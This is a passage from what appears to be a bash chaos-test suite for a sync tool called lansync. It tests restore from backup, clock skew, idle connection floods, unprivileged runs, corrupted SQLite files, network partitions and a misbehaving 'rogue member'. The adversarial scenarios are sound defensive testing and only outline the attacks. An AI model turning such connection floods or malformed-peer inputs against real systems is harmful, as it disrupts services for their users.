        check_acks "$S/a" "$S/b" "$S/b2"; RESTORE_MISSING=$((RESTORE_MISSING + MISSING))
        check_files "$S/a" "$S/b" "$S/b2"; RESTORE_REUSED=$((RESTORE_REUSED + REUSED))
    else
        # Edits that only the lost future holds, synced to A before the copy comes back.
        ack_set "$S/b" item after 1; ack_elem "$S/b" item tags lost; ack_set "$S/b" item shared lost
        ack_set "$S/b" other x 1 add
        sync_with "$S/b" "$pa" || fail "$variant: the second sync failed: $(tail -1 "$EDIT_ERR")"
        rm -rf "$S/b"; cp -a "$S/backup" "$S/b"
        if [ "$variant" = offline ]; then
            "$L" set --dir "$S/b" item shared=new 2>"$S/note" >/dev/null && printf 'set\titem\tshared\tnew\n' >>"$ACKS" || fail "offline: the first edit after the restore failed: $(cat "$S/note")"
            grep -qi "restored" "$S/note" || fail "offline: the first edit after the restore did not say so (stderr: $(head -1 "$S/note"))"
            ack_elem "$S/b" item tags new; ack_set "$S/b" item new 2
        fi
        sync_with "$S/b" "$pa" || fail "$variant: the sync after the restore failed: $(tail -1 "$EDIT_ERR")"
        wait_converge 20 "$S/a" "$S/b" >/dev/null || fail "$variant: A and B did not converge"
        [ "$(py equal-lists "$S/a" "$S/b")" = same ] || fail "$variant: A and B list different items"
        check_acks "$S/a" "$S/b"; RESTORE_MISSING=$((RESTORE_MISSING + MISSING))
        check_files "$S/a" "$S/b"; RESTORE_REUSED=$((RESTORE_REUSED + REUSED))
        # A second round trip changes nothing more: the restored node is settled.
        sync_with "$S/b" "$pa" || fail "$variant: a second sync failed"
        [ "$(digest "$S/a")" = "$(digest "$S/b")" ] || fail "$variant: digests differ after a second sync"
    fi
    stop_node a; [ "$NODE_RC" = 0 ] || fail "$variant: node A exited with $NODE_RC"
    RESTORE_ACKED=$((RESTORE_ACKED + $(wc -l <"$ACKS")))
}

sc_restore() {
    local S=$W/restore round v
    mkdir -p "$S"
    EDIT_ERR=$S/edit.err
    : >"$EDIT_ERR"
    RESTORE_MISSING=0 RESTORE_REUSED=0 RESTORE_ACKED=0
    local runs=0
    for round in $(seq 1 "$RESTORE_ROUNDS"); do
        for v in offline quiet fork; do
            restore_once "$S/$v-$round" "$v"; runs=$((runs + 1))
        done
    done
    FIG="restore: $runs runs (restore with an offline edit, restore without, fork), $RESTORE_ACKED acknowledged edits, $RESTORE_MISSING missing, $RESTORE_REUSED reused dots, $([ ${#REASONS[@]} = 0 ] && echo "all converged" || echo "${#REASONS[@]} problem(s)")"
}

# --- 3. clock -----------------------------------------------------------------------------------
# A node whose clock is off (libfaketime) edits after seeing B's edit, B edits after seeing that:
# each causally later value must be the one shown everywhere, whatever the timestamps say, and a
# timestamp years ahead must not drag B's clock more than a day ahead. Concurrent edits converge.
# Then issue 12's defect 2: one edit from a node 10 minutes fast reaches B, and B is restored.
sc_clock() {
    local S=$W/clock n cdirs=()
    for n in $(seq 1 ${#CLOCK_OFFSETS[@]}); do cdirs+=("c$n"); done
    # A fresh C for each offset: a clock that was once ahead keeps its lead in its own writes.
    make_cluster "$S" a b "${cdirs[@]}" || { fail "init failed"; return; }
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    local pa; pa=$(free_port)
    start_node a "$S/a" "127.0.0.1:$pa" || { fail "node A did not start"; return; }
    # Field t is overwritten in causal order: checked by what is shown, not as acknowledged edits.
    "$L" add --dir "$S/b" --id x t=start >/dev/null 2>>"$EDIT_ERR" || fail "add failed"
    local off wrong=0 lead maxlead=0 chain=(start) C
    n=0
    fsync_c() { faketime -f "$1" "$L" sync --dir "$C" --peer "127.0.0.1:$pa" --timeout 30 >/dev/null 2>>"$EDIT_ERR"; }
    for off in "${CLOCK_OFFSETS[@]}"; do
        n=$((n + 1)) C=$S/c$n
        sync_with "$S/b" "$pa" && fsync_c "$off" || fail "$off: sync failed: $(tail -1 "$EDIT_ERR")"
        # C (clock off) overwrites what it saw; then B (clock right) overwrites what it saw.
        faketime -f "$off" "$L" set --dir "$C" x "t=skewed$n" >/dev/null 2>>"$EDIT_ERR" || fail "$off: edit failed: $(tail -1 "$EDIT_ERR")"
        fsync_c "$off" && sync_with "$S/b" "$pa" || fail "$off: sync failed: $(tail -1 "$EDIT_ERR")"
        local shown; shown=$("$L" get --dir "$S/b" x --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["fields"]["t"])')
        [ "$shown" = "skewed$n" ] || { wrong=$((wrong + 1)); fail "$off: B shows t=$shown, not the later edit skewed$n made with the clock $off"; }
        "$L" set --dir "$S/b" x "t=after$n" >/dev/null 2>>"$EDIT_ERR" || fail "$off: edit failed: $(tail -1 "$EDIT_ERR")"
        chain+=("skewed$n" "after$n")
        lead=$(py lead-hours "$S/b" x t "after$n")
        if [ "$lead" = none ]; then fail "$off: B's edit is not in its history"; else
            maxlead=$(awk -v a="$lead" -v b="$maxlead" 'BEGIN { print (a > b) ? a : b }')
            awk -v l="$lead" 'BEGIN { exit !(l > 24.05) }' && fail "$off: B's clock was dragged $lead h ahead (at most 24 h)"
        fi
        sync_with "$S/b" "$pa" && fsync_c "$off" || fail "$off: sync failed: $(tail -1 "$EDIT_ERR")"
        shown=$("$L" get --dir "$C" x --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["fields"]["t"])')
        [ "$shown" = "after$n" ] || { wrong=$((wrong + 1)); fail "$off: C shows t=$shown, not the later edit after$n (an older value won)"; }
        # Concurrent edits of one field on B and on C: both kept, the same one shown everywhere.
        ack_set "$S/b" x "u$n" fromB
        if faketime -f "$off" "$L" set --dir "$C" x "u$n=fromC" >/dev/null 2>>"$EDIT_ERR"; then printf 'set\tx\tu%s\tfromC\n' "$n" >>"$ACKS"; else fail "$off: edit failed: $(tail -1 "$EDIT_ERR")"; fi
        sync_with "$S/b" "$pa" && fsync_c "$off" && sync_with "$S/b" "$pa" || fail "$off: sync failed: $(tail -1 "$EDIT_ERR")"
        wait_converge 10 "$S/a" "$S/b" "$C" >/dev/null || fail "$off: A, B, C did not converge"
    done
    # Every C once more (each with its clock), then B: all of them converge.
    n=0
    for off in "${CLOCK_OFFSETS[@]}"; do n=$((n + 1)) C=$S/c$n; fsync_c "$off" || fail "$off: the last sync failed: $(tail -1 "$EDIT_ERR")"; done
    sync_with "$S/b" "$pa" || fail "B's last sync failed: $(tail -1 "$EDIT_ERR")"
    local older; older=$(py inversions "$S/a" x t "${chain[@]}")
    local dirs=("$S/a" "$S/b"); for n in "${cdirs[@]}"; do dirs+=("$S/$n"); done
    wait_converge 20 "${dirs[@]}" >/dev/null || fail "A, B and the Cs did not converge"
    check_acks "${dirs[@]}"
    check_files "${dirs[@]}"
    local m1=$MISSING r1=$REUSED a1=$ACKED
    stop_node a

    # Defect 2: a fast clock's timestamp reaches B; B is then restored from a backup.
    local T=$S/defect2
    make_cluster "$T" a b c || { fail "defect 2: init failed"; return; }
    ACKS=$T/acks; : >"$ACKS"
    pa=$(free_port)
    start_node a2 "$T/a" "127.0.0.1:$pa" || { fail "defect 2: node A did not start"; return; }
    ack_set "$T/b" y base 1 add
    sync_with "$T/b" "$pa" || fail "defect 2: sync failed"
    faketime -f +10m "$L" sync --dir "$T/c" --peer "127.0.0.1:$pa" >/dev/null 2>>"$EDIT_ERR" || fail "defect 2: C's sync failed"
    if faketime -f +10m "$L" set --dir "$T/c" y fast=1 >/dev/null 2>>"$EDIT_ERR"; then printf 'set\ty\tfast\t1\n' >>"$ACKS"; fi
    faketime -f +10m "$L" sync --dir "$T/c" --peer "127.0.0.1:$pa" >/dev/null 2>>"$EDIT_ERR" || fail "defect 2: C's sync failed"
    sync_with "$T/b" "$pa" || fail "defect 2: sync failed"
    rm -rf "$T/backup"; cp -a "$T/b" "$T/backup"
    ack_set "$T/b" y lost 1; ack_set "$T/b" y shared lost
    sync_with "$T/b" "$pa" || fail "defect 2: sync failed"
    rm -rf "$T/b"; cp -a "$T/backup" "$T/b"
    ack_set "$T/b" y shared new; ack_set "$T/b" y new 1
    sync_with "$T/b" "$pa" || fail "defect 2: the sync after the restore failed: $(tail -1 "$EDIT_ERR")"
    faketime -f +10m "$L" sync --dir "$T/c" --peer "127.0.0.1:$pa" >/dev/null 2>>"$EDIT_ERR" || fail "defect 2: C's sync failed"
    sync_with "$T/b" "$pa" || fail "defect 2: sync failed"
    local conv=""
    wait_converge 20 "$T/a" "$T/b" "$T/c" >/dev/null && conv=converged || { conv="not converged"; fail "defect 2: A, B, C did not converge"; }
    check_acks "$T/a" "$T/b" "$T/c"
    check_files "$T/a" "$T/b" "$T/c"
    FIG="clock: offsets ${CLOCK_OFFSETS[*]}, $((a1 + ACKED)) acknowledged edits, $((m1 + MISSING)) missing, $wrong older-over-newer (of $(( ${#chain[@]} - 1 )) causal overwrites, $older stamped earlier than what they replaced), B's clock at most ${maxlead} h ahead, $((r1 + REUSED)) reused dots; 10-min-fast edit + restore: $conv"
}

# --- 4. strangers -------------------------------------------------------------------------------
# Node A (with --peer C) on loopback, and STRANGER_COUNT idle TCP connections held open to it that
# never say a word. Meanwhile a member's 'lansync sync' with A must succeed, and A must still pass
# its edits to C, also after C restarts (A dials it again).
sc_strangers() {
    local S=$W/strangers
    make_cluster "$S" a b c || { fail "init failed"; return; }
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    local pa pc
    pa=$(free_port); pc=$(free_port)
    start_node c "$S/c" "127.0.0.1:$pc" || { fail "node C did not start"; return; }
    start_node a "$S/a" "127.0.0.1:$pa" --peer "127.0.0.1:$pc" || { fail "node A did not start"; return; }
    ack_set "$S/a" warm v 1 add
    wait_converge 20 "$S/a" "$S/c" >/dev/null || fail "A and C did not converge before the strangers came"
    ack_set "$S/b" fromb v 1 add
    local hold=100
    [ "$PROFILE" = long ] && hold=240
    python3 "$W/chaos.py" strangers "$pa" "$STRANGER_COUNT" "$hold" "$S/ready" "$S/stop" &
    local spid=$! _
    # And strangers that complete TLS without a certificate, as a joining machine does, and then
    # send no join request: at most 8 are served at once (10 s each), the rest closed at once.
    python3 "$W/chaos.py" tls-strangers "$pa" "$TLS_STRANGER_COUNT" "$hold" "$S/tls-ready" "$S/stop" &
    local tpid=$!
    BG_PIDS=("$spid" "$tpid")
    for _ in $(seq 1 300); do [ -e "$S/ready" ] && [ -e "$S/tls-ready" ] && break; sleep 0.1; done
    local held failed tls_held
    read -r held failed <"$S/ready" 2>/dev/null || { held=0 failed=$STRANGER_COUNT; }
    read -r tls_held <"$S/tls-ready" 2>/dev/null || tls_held=0
    [ "$held" -gt 0 ] || fail "no stranger connection could be opened"
    [ "$tls_held" -gt 0 ] || fail "no TLS handshake without a certificate completed"
    sleep 3   # longer than a first-byte timeout: the strangers have been dropped and come back
    # A member's one-shot sync while the strangers are held.
    local t0 sync_ms sync_rc
    t0=$(now_ms)
    "$L" sync --dir "$S/b" --peer "127.0.0.1:$pa" --timeout 20 >/dev/null 2>"$S/sync.err"
    sync_rc=$?
    sync_ms=$(( $(now_ms) - t0 ))
    if [ "$sync_rc" != 0 ]; then fail "the member's sync with A failed after $(secs $sync_ms) s: $(head -1 "$S/sync.err")"
    elif [ "$sync_ms" -gt 5000 ]; then fail "the member's sync with A took $(secs $sync_ms) s (at most 5 s)"; fi
    # An edit on A reaches C over A's outgoing connection.
    local c_ms="never" c2_ms="never"
    ack_set "$S/a" edit1 v 1 add
    t0=$(now_ms)
    while [ $(( $(now_ms) - t0 )) -lt 5000 ]; do
        "$L" get --dir "$S/c" edit1 >/dev/null 2>&1 && { c_ms=$(secs $(( $(now_ms) - t0 ))); break; }
        sleep 0.1
    done
    [ "$c_ms" != never ] || fail "an edit on A did not reach C within 5 s"
    # C restarts: A must dial it again while the strangers are still there.
    stop_node c
    start_node c "$S/c" "127.0.0.1:$pc" || fail "node C did not restart"
    ack_set "$S/a" edit2 v 2 add
    t0=$(now_ms)
    while [ $(( $(now_ms) - t0 )) -lt 8000 ]; do
        "$L" get --dir "$S/c" edit2 >/dev/null 2>&1 && { c2_ms=$(secs $(( $(now_ms) - t0 ))); break; }
        sleep 0.1
    done
    [ "$c2_ms" != never ] || fail "after C restarted, an edit on A did not reach it within 8 s (A did not dial C again)"
    touch "$S/stop"
    for _ in $(seq 1 100); do [ -e "$S/ready.done" ] && break; sleep 0.1; done
    for _ in $(seq 1 100); do [ -e "$S/tls-ready.done" ] && break; sleep 0.1; done
    kill "$spid" "$tpid" 2>/dev/null; wait "$spid" "$tpid" 2>/dev/null; BG_PIDS=()
    local dropped back tls_closed busy_lines
    read -r dropped back <"$S/ready.done" 2>/dev/null || { dropped="?" back="?"; }
    read -r tls_closed <"$S/tls-ready.done" 2>/dev/null || tls_closed="?"
    # The node says it turns certificate-less connections away at most once a minute.
    busy_lines=$(grep -c "closing connections without a certificate" "${NODE_LOG[a]}")
    [ "$busy_lines" -le $(( hold / 60 + 1 )) ] || fail "A logged the busy line $busy_lines times (at most once a minute)"
    kill -0 "${NODE_PID[a]}" 2>/dev/null || fail "node A died: $(tail -1 "${NODE_LOG[a]}")"
    # Once the strangers are gone, everyone converges.
    sync_with "$S/b" "$pa" 20 || fail "the member's sync after the strangers left failed: $(tail -1 "$EDIT_ERR")"
    wait_converge 20 "$S/a" "$S/b" "$S/c" >/dev/null || fail "A, B, C did not converge after the strangers left"
    check_acks "$S/a" "$S/b" "$S/c"
    FIG="strangers: $held idle connections from 21 addresses ($dropped closed by A, $back came back) and $tls_held TLS ones without a certificate ($tls_closed closed by A, $busy_lines busy line in its log), member sync $( [ "$sync_rc" = 0 ] && echo "ok in $(secs $sync_ms) s" || echo "FAILED after $(secs $sync_ms) s"), A->C edit in ${c_ms}$( [ "$c_ms" != never ] && echo " s"), after C restarted in ${c2_ms}$( [ "$c2_ms" != never ] && echo " s")"
}

# --- 5. unprivileged ----------------------------------------------------------------------------
# Everything else runs as whoever runs the suite (root in CI); deploy/lansync-node.service runs the
# node as an unprivileged user. Here a node, an edit and a sync run as user nobody (setpriv): the
# sync must succeed, the node must survive the inbound connection and stop cleanly.
RUN_AS=()   # a command prefix for nodes: start_node runs "${RUN_AS[@]}" lansync node ...
as_user() { setpriv --reuid=65534 --regid=65534 --clear-groups env LANSYNC_RUNTIME_DIR="$W/unprivileged/runtime" "$@"; }

sc_unprivileged() {
    [ "$(id -u)" = 0 ] || { SKIP_WHY="not root: the other scenarios already ran as $(id -un)"; return; }
    command -v setpriv >/dev/null || { SKIP_WHY="no setpriv (util-linux)"; return; }
    local S=$W/unprivileged
    mkdir -p "$S/runtime"
    chmod 711 "$W"                      # nobody may pass through, not list
    chown -R 65534:65534 "$S"
    as_user test -x "$L" || { SKIP_WHY="user nobody cannot run $L"; return; }
    RUN_AS=(setpriv --reuid=65534 --regid=65534 --clear-groups env LANSYNC_RUNTIME_DIR="$S/runtime")
    as_user "$L" cluster create "$S/cluster.pem" >/dev/null 2>"$S/init.err" &&
        as_user "$L" init --dir "$S/a" --cluster "$S/cluster.pem" --name a >/dev/null 2>>"$S/init.err" &&
        as_user "$L" init --dir "$S/b" --cluster "$S/cluster.pem" --name b >/dev/null 2>>"$S/init.err" || { fail "init as nobody failed: $(tail -1 "$S/init.err")"; RUN_AS=(); return; }
    local pa; pa=$(free_port)
    start_node a "$S/a" "127.0.0.1:$pa" || fail "node A did not start as nobody: $(tail -1 "${NODE_LOG[a]}")"
    local sync="failed" inbound="failed" alive="dead" conv="no"
    as_user "$L" add --dir "$S/b" --id hello v=1 >/dev/null 2>"$S/edit.err" || fail "add as nobody failed: $(tail -1 "$S/edit.err")"
    # Outbound: B's sync, as nobody, to A.
    if as_user "$L" sync --dir "$S/b" --peer "127.0.0.1:$pa" --timeout 10 >/dev/null 2>"$S/sync.err"; then sync=ok; else
        fail "a sync as nobody failed: $(head -1 "$S/sync.err" | cut -c1-160)"; fi
    # Inbound: a sync from a replica of this user's (C) to A, which runs as nobody.
    "$L" init --dir "$W/unprivileged-c" --cluster "$S/cluster.pem" --name c >/dev/null 2>&1
    "$L" add --dir "$W/unprivileged-c" --id from-c v=1 >/dev/null 2>&1
    if "$L" sync --dir "$W/unprivileged-c" --peer "127.0.0.1:$pa" --timeout 10 >/dev/null 2>"$S/sync2.err"; then inbound=ok; else
        fail "a sync to the node running as nobody failed: $(head -1 "$S/sync2.err" | cut -c1-160)"; fi
    # B again, for what C brought.
    as_user "$L" sync --dir "$S/b" --peer "127.0.0.1:$pa" --timeout 10 >/dev/null 2>>"$S/sync.err"
    sleep 0.3
    if [ -n "${NODE_PID[a]}" ] && kill -0 "${NODE_PID[a]}" 2>/dev/null; then alive=alive; else
        fail "node A (as nobody) died after a connection: $(tail -1 "${NODE_LOG[a]}" | cut -c1-160)"; fi
    [ "$alive" = alive ] && { wait_converge 10 "$S/a" "$S/b" "$W/unprivileged-c" >/dev/null && conv=yes || fail "A, B and C did not converge"; }
    if [ "$alive" = alive ]; then stop_node a; [ "$NODE_RC" = 0 ] || fail "node A exited with $NODE_RC on SIGTERM"; fi
    RUN_AS=()
    FIG="unprivileged: node A and replica B as user nobody: B's sync to A $sync, another user's sync to A $inbound, A $alive afterwards, converged $conv"
}

# --- 6. damage ----------------------------------------------------------------------------------
# Damaged copies of a replica file. Every command must succeed or fail with one line on stderr
# and a non-zero exit status, never crash. 'lansync check', where it exists, must report damage
# that SQLite's integrity_check sees, and pass the undamaged file.
is_crash() {  # RC STDERR_FILE
    [ "$1" -ge 128 ] && return 0
    grep -qE 'Fatal error|Illegal instruction|Segmentation fault|SIGILL|SIGSEGV|SIGTRAP|SIGABRT|SIGBUS|Current stack trace|\*\*\* Signal' "$2"
}

# judge LABEL RC STDERR_FILE: a crash, or a failure that is not one line, is a reason. Notes
# ("lansync: note: ... was copied or moved ...": every damaged copy is a copy) are not counted.
judge() {
    local label=$1 rc=$2 err=$3 lines
    lines=$(grep -v '^lansync: note:' "$err" | grep -c .)
    if is_crash "$rc" "$err"; then
        DAMAGE_CRASHES=$((DAMAGE_CRASHES + 1))
        fail "$label crashed (exit $rc): $(grep -m1 -E 'Fatal error|Signal|SIG|fault|instruction' "$err" || head -1 "$err")"
    elif [ "$rc" != 0 ]; then
        DAMAGE_FAILED=$((DAMAGE_FAILED + 1))
        [ "$lines" = 1 ] || { DAMAGE_UGLY=$((DAMAGE_UGLY + 1)); fail "$label failed (exit $rc) with $lines lines on stderr: $(grep -v '^lansync: note:' "$err" | head -2 | paste -sd '|' -)"; }
    else
        DAMAGE_OK=$((DAMAGE_OK + 1))
    fi
}

sc_damage() {
    local S=$W/damage
    make_cluster "$S" src fresh || { fail "init failed"; return; }
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    py import-file "$S/in.jsonl" seed 1000
    "$L" import --dir "$S/src" "$S/in.jsonl" >/dev/null 2>&1 || { fail "the seed import failed"; return; }
    local i
    for i in $(seq 1 20); do "$L" set --dir "$S/src" seed-$i "n=edited$i" 'tags+=a' >/dev/null; done
    local has_check=0
    "$L" check --help 2>&1 | grep -q "USAGE: lansync check" && has_check=1
    DAMAGE_CRASHES=0 DAMAGE_FAILED=0 DAMAGE_OK=0 DAMAGE_UGLY=0
    local check_hit=0 check_seen=0 check_logical=0 check_missed=() check_note="lansync check: not in this build"
    if [ "$has_check" = 1 ]; then
        "$L" check --dir "$S/src" >/dev/null 2>"$S/check.err" || fail "check fails on the undamaged replica: $(head -1 "$S/check.err")"
    fi
    local modes=(header schema zero-page zero-pages truncate state-garbage state-text state-empty conflict-flip history-garbage meta-garbage orphan-rows foreign-types nulls)
    for i in $(seq 1 "$DAMAGE_FLIPS"); do modes+=("flip$i"); done
    local mode copies=0
    for mode in "${modes[@]}"; do
        local D=$S/$mode
        rm -rf "$D"; cp -a "$S/src" "$D"
        py damage "$mode" "$D/replica.sqlite" "$((SEED + copies))" || { fail "could not damage $mode"; continue; }
        copies=$((copies + 1))
        local sq; sq=$(integrity "$D")
        local rc check_rc=0
        if [ "$has_check" = 1 ]; then
            "$L" check --dir "$D" >/dev/null 2>"$D.check.err"; rc=$?; check_rc=$rc
            judge "$mode: check" "$rc" "$D.check.err"
            if [ "$sq" = ok ]; then
                if [ "$rc" != 0 ]; then check_logical=$((check_logical + 1)); else check_missed+=("$mode"); fi
            fi
            if [ "$sq" != ok ]; then
                check_seen=$((check_seen + 1))
                if [ "$rc" != 0 ] && ! is_crash "$rc" "$D.check.err"; then check_hit=$((check_hit + 1)); else fail "$mode: check exits $rc on a file SQLite finds damaged ($sq)"; fi
            fi
        fi
        # Read commands that succeed print what they promise: valid JSON.
        local what
        for what in list status; do
            "$L" "$what" --dir "$D" --json >"$D.$what.out" 2>"$D.$what.err"; rc=$?
            judge "$mode: $what" "$rc" "$D.$what.err"
            local bad=""
            if [ "$rc" = 0 ] && bad=$(py bad-json "$D.$what.out"); [ -n "$bad" ]; then
                fail "$mode: $what --json succeeded but printed invalid JSON: $bad"
            fi
        done
        "$L" add --dir "$D" v=1 >/dev/null 2>"$D.add.err"; rc=$?
        judge "$mode: add" "$rc" "$D.add.err"
        # The node: it must refuse with one line, or run and survive a peer's sync.
        local port; port=$(free_port)
        : >"$D.node.err"
        "$L" node --dir "$D" --listen "127.0.0.1:$port" --no-mdns >/dev/null 2>"$D.node.err" </dev/null &
        local npid=$! _ up=0
        NODE_PID[dmg]=$npid
        for _ in $(seq 1 40); do
            grep -q "listening on" "$D.node.err" && { up=1; break; }
            kill -0 "$npid" 2>/dev/null || break
            sleep 0.05
        done
        if [ "$up" = 1 ]; then
            "$L" sync --dir "$S/fresh" --peer "127.0.0.1:$port" --timeout 10 >/dev/null 2>"$D.sync.err"; rc=$?
            judge "$mode: sync from the node" "$rc" "$D.sync.err"
            sleep 0.2
            stop_node dmg; rc=$NODE_RC
            grep -v -E 'listening on|node stopped|^[0-9T:.-]+Z ' "$D.node.err" >"$D.node.err2"
            if is_crash "$rc" "$D.node.err"; then judge "$mode: node" "$rc" "$D.node.err"
            elif [ "$rc" != 0 ]; then fail "$mode: node exited $rc on SIGTERM"; else DAMAGE_OK=$((DAMAGE_OK + 1)); fi
            # A fresh replica that synced with a damaged node starts over for the next copy.
            rm -rf "$S/fresh"; "$L" init --dir "$S/fresh" --cluster "$S/cluster.pem" --name fresh >/dev/null
        else
            stop_node dmg; rc=$NODE_RC
            judge "$mode: node" "$rc" "$D.node.err"
        fi
        # A command that calls the file damaged, where check found nothing, means check misses it.
        if [ "$has_check" = 1 ] && [ "$check_rc" = 0 ] && cat "$D".*.err | grep -v '^lansync: note:' | grep -qi 'damaged'; then
            fail "$mode: check passes a file other commands call damaged: $(grep -h -i damaged "$D".*.err | head -1)"
        fi
    done
    if [ "$has_check" = 1 ]; then check_note="lansync check reported $check_hit of $check_seen copies SQLite finds damaged and $check_logical of $(( copies - check_seen )) others$( [ ${#check_missed[@]} -gt 0 ] && echo " (passed: ${check_missed[*]})")"; fi
    FIG="damage: $copies damaged copies (5 broken pages, 9 broken rows, $DAMAGE_FLIPS with random bytes), $DAMAGE_OK commands ran, $DAMAGE_FAILED refused, $DAMAGE_UGLY refused with more than one line, $DAMAGE_CRASHES crashes; $check_note"
}

# --- 7. partition -------------------------------------------------------------------------------
# Three lab hosts, each a node found over mDNS. Edits everywhere; host 3 cut off while both sides
# edit (the same field too); healed while PART_LOSS% of frames are dropped at every host's port.
# All three must converge (equal digests) within PART_TIMEOUT s of the heal, with every edit.
sc_partition() {
    local why
    if ! why=$(scripts/lab.sh check 2>&1); then
        # CI sets LANSYNC_REQUIRE_LAB=1 where the lab can run: there a missing lab is a failure.
        if [ "${LANSYNC_REQUIRE_LAB:-0}" = 1 ]; then fail "LANSYNC_REQUIRE_LAB=1, but the mDNS lab cannot run: $why"; return; fi
        SKIP_WHY="needs the mDNS lab: $why"; return
    fi
    local S=$W/partition i c
    make_cluster "$S" d1 d2 d3 || { fail "init failed"; return; }
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    LAB_UP=1
    scripts/lab.sh up 3 >"$S/lab.log" 2>&1 || { fail "the lab did not come up: $(tail -1 "$S/lab.log")"; return; }
    for i in 1 2 3; do ack_set "$S/d$i" "from$i" v "$i" add; done
    "$L" add --dir "$S/d1" --id list 'tags=["start"]' >/dev/null 2>>"$EDIT_ERR" && printf 'elem\tlist\ttags\tstart\n' >>"$ACKS" || fail "add list refused: $(tail -1 "$EDIT_ERR")"
    for i in 1 2 3; do
        LAB_HOST=$i start_node "n$i" "$S/d$i" "10.77.0.$i:7420" || fail "node $i did not start: $(tail -1 "${NODE_LOG[n$i]}")"
    done
    local ms first_ms
    if first_ms=$(wait_converge 60 "$S/d1" "$S/d2" "$S/d3"); then :; else fail "the three nodes did not converge over mDNS in 60 s"; first_ms=-1; fi
    local _; for _ in $(seq 1 50); do "$L" get --dir "$S/d3" list >/dev/null 2>&1 && break; sleep 0.1; done
    local heal_times=() worst=0
    for c in $(seq 1 "$PART_CYCLES"); do
        for i in 1 2 3; do for e in 1 2 3; do ack_set "$S/d$i" "from$i" "c$c-$e" "$e"; done; ack_elem "$S/d$i" list tags "c$c-h$i"; done
        for i in 1 2 3; do scripts/lab.sh loss "$i" "$PART_LOSS" || fail "lab.sh loss failed"; done
        scripts/lab.sh cut 3
        for e in $(seq 1 10); do
            ack_set "$S/d1" "cut$c" "a$e" "$e" "$([ "$e" = 1 ] && echo add || echo set)"
            ack_set "$S/d3" "far$c" "b$e" "$e" "$([ "$e" = 1 ] && echo add || echo set)"
            ack_elem "$S/d2" list tags "c$c-near$e"; ack_elem "$S/d3" list tags "c$c-far$e"
        done
        ack_set "$S/d1" list "shared$c" "near$c"; ack_set "$S/d3" list "shared$c" "far$c"
        sleep "$PART_CUT"
        scripts/lab.sh heal 3
        local t0; t0=$(now_ms)
        # Converging while the loss is still on for a while, then on a clean network.
        if ms=$(wait_converge "$PART_LOSS_AFTER" "$S/d1" "$S/d2" "$S/d3"); then
            for i in 1 2 3; do scripts/lab.sh loss "$i" 0; done
        else
            for i in 1 2 3; do scripts/lab.sh loss "$i" 0; done
            if wait_converge "$PART_TIMEOUT" "$S/d1" "$S/d2" "$S/d3" >/dev/null; then ms=$(( $(now_ms) - t0 )); else ms=-1; fi
        fi
        if [ "$ms" = -1 ]; then
            fail "cycle $c: no convergence within $((PART_LOSS_AFTER + PART_TIMEOUT)) s of the heal"
            heal_times+=(never)
        else
            heal_times+=("$(secs "$ms") s")
            [ "$ms" -gt "$worst" ] && worst=$ms
        fi
    done
    check_acks "$S/d1" "$S/d2" "$S/d3"
    for i in 1 2 3; do
        stop_node "n$i"
        [ "$NODE_RC" = 0 ] || fail "node $i exited with $NODE_RC on SIGTERM"
    done
    check_files "$S/d1" "$S/d2" "$S/d3"
    scripts/lab.sh down >/dev/null 2>&1; LAB_UP=0
    FIG="partition: 3 lab hosts over mDNS, first convergence in $( [ "$first_ms" -ge 0 ] && echo "$(secs "$first_ms") s" || echo never), $PART_CYCLES cut(s) of ${PART_CUT} s with ${PART_LOSS}% loss per port, converged after heal in ${heal_times[*]}, $(commas "$ACKED") acknowledged edits, $MISSING missing, $REUSED reused dots"
}

# --- 8. member ----------------------------------------------------------------------------------
# A member that misbehaves, with a valid certificate of its own ('lansync-debug rogue-member': a
# modified or buggy lansync). Node A (with C as its peer) takes, in turn: covers naming
# MEMBER_WRITERS made-up writers; 18 hellos of 4,000 junk statements each; a value 100 bytes over
# the 1 MiB limit; and a name full of terminal control sequences. Meanwhile A's own edits must
# commit at once, SIGTERM must stop A within a second, its vector must not take the fake writers,
# its memory must not grow by 16 MiB, the big value must never be stored (A's export must import
# elsewhere), no control byte may reach A's status, members or log, and C, restarted, must sync
# with A afterwards (Docs/SECURITY.md, "What a member can and cannot do").
sc_member() {
    local S=$W/member
    [ -x "$DBG" ] || { fail "no test tools at $DBG: build them (swift build -c release --product lansync-debug) or set CHAOS_DEBUG_BINARY"; return; }
    make_cluster "$S" a c m || { fail "init failed"; return; }
    ACKS=$S/acks EDIT_ERR=$S/edit.err
    : >"$ACKS"; : >"$EDIT_ERR"
    local pa pc
    pa=$(free_port); pc=$(free_port)
    start_node c "$S/c" "127.0.0.1:$pc" || { fail "node C did not start"; return; }
    start_node a "$S/a" "127.0.0.1:$pa" --peer "127.0.0.1:$pc" || { fail "node A did not start"; return; }
    ack_set "$S/a" warm v 1 add
    wait_converge 20 "$S/a" "$S/c" >/dev/null || fail "A and C did not converge before the attacks"
    # 1. Made-up writers in covers, with an edit on A and then a SIGTERM while they arrive.
    "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" --fake-writers "$MEMBER_WRITERS" --seconds 15 >"$S/rogue1.out" 2>&1 &
    local rpid=$! t0 add_ms add_rc
    BG_PIDS=("$rpid")
    sleep 2
    t0=$(now_ms)
    "$L" add --dir "$S/a" --id during v=1 >/dev/null 2>>"$EDIT_ERR"
    add_rc=$? add_ms=$(( $(now_ms) - t0 ))
    if [ "$add_rc" = 0 ]; then printf 'set\tduring\tv\t1\n' >>"$ACKS"; else fail "an edit on A during the attack failed after $(secs $add_ms) s: $(tail -1 "$EDIT_ERR")"; fi
    [ "$add_ms" -le 5000 ] || fail "an edit on A during the attack took $(secs $add_ms) s (at most 5 s)"
    wait "$rpid" 2>/dev/null; BG_PIDS=()
    local writers vector
    writers=$(sqlite3 -readonly "$S/a/replica.sqlite" 'SELECT count(*) FROM node' 2>&1)
    vector=$(sqlite3 -readonly "$S/a/replica.sqlite" 'SELECT count(*) FROM node WHERE counter > 0' 2>&1)
    [[ $writers =~ ^[0-9]+$ ]] && [ "$writers" -le 100 ] || fail "A holds $writers writers after the attack (the cluster has 3 machines)"
